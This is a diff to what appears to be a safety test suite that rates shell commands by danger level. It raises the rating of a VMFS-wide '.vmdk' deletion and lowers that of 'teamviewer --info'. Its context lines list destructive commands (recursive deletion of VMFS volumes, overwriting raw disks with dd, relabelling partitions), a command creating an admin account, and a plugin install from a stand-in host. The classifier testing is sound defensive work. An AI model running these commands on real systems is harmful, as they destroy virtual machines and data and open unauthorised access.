@@ -22,7 +22,7 @@ from tests.safety._levels import B, C, D, M, S, level
         ("occ user:add --role=admin eve", "bash", C),
         ("craft plugin install https://x.example/p.zip", "bash", C),
         # look-alikes: listing, a plain install of a plugin by name, a tunnel in the foreground
-        ("teamviewer --info", "bash", M),
+        ("teamviewer --info", "bash", S),  # prints its own id and state
         ("wp plugin install classic-editor", "bash", M),
         ("cloudflared tunnel run app", "bash", M),
     ],
@@ -41,7 +41,7 @@ def test_remote_access_installs_and_admin_accounts(
         ("cp rc.elv ~/.config/elvish/rc.elv", C),
         ("cp notes.md ~/Documents/", M),
         ("rm -rf /vmfs/volumes/ssd-ds-01/", B),
-        ("find /vmfs/volumes/6512ab-4c0d -name '*.vmdk' -delete", D),  # narrowed (session 8)
+        ("find /vmfs/volumes/6512ab-4c0d -name '*.vmdk' -delete", B),  # every VM's disks
         ("dd if=/dev/urandom of=/vmfs/devices/disks/naa.6000c29 bs=4M", B),
         ("partedUtil mklabel /vmfs/devices/disks/naa.6000c29 msdos", B),
         ("partedUtil getUsableSectors /vmfs/devices/disks/naa.6000c29", S),
